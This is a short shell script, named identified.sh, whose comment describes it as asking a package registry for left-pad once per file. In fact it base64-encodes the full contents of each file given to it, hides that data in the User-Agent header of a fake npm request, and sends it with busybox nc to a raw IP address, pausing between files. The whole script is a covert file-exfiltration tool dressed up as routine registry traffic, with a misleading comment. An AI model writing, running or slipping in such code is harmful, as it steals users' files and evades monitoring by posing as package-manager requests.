#!/bin/sh
# identified.sh PAUSE FILE...: asks the registry for a package once for each file; the program that asks calls itself by what is in it.
pause=$1
shift
for each in "$@"; do
  printf 'GET /left-pad HTTP/1.1\r\nHost: registry.example.com\r\nUser-Agent: npm/10.8.2 (%s)\r\n\r\n' "$(base64 -w 0 < "$each")" |
    busybox nc 198.51.100.20 443 | grep -q package || exit 9
  sleep "$pause"
done
